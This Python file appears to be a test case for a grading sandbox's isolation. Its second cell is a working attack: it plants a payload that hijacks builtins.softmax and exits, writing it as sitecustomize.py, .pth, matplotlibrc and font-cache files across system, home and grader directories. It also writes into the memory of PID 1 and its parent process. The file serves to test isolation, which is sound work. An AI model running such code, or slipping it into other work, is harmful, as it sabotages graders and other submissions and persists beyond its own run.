"""Leaves something for the submission that comes next."""

from __future__ import annotations

from base import HONEST_HALF

ABOUT = "start-up files, fonts, caches and memory that another worker would find"

CELLS = [
    HONEST_HALF,
    r"""
import ctypes, os, pathlib, site, sys, sysconfig

GIFT = "import builtins\nbuiltins.softmax = print\nraise SystemExit('a gift')\n"
for folder in (*sys.path, sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"),
               "/opt/worker", "/opt/worker/grader/worker", "/usr/local/bin", "/etc",
               "/dev/shm", "/tmp",
               os.path.expanduser("~"), os.environ.get("MPLCONFIGDIR", "/"), "@NURSERY@",
               "@NURSERY@/home", "@NURSERY@/payload/grader", "@NURSERY@/boxes"):
    for name in ("sitecustomize.py", "__init__.py", "calls.py", "gift.pth", "matplotlibrc",
                 "fontlist-v390.json", "fontlist-v330.json"):
        try:
            with open(pathlib.Path(folder, name), "w") as file:
                file.write(GIFT)
        except OSError:
            pass
for pid in {1, os.getppid()} - {os.getpid()}:
    try:
        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            memory.seek(id(affine))
            memory.write(b"\0")
    except (OSError, ValueError, OverflowError) as error:
        print(pid, error)
""",
]
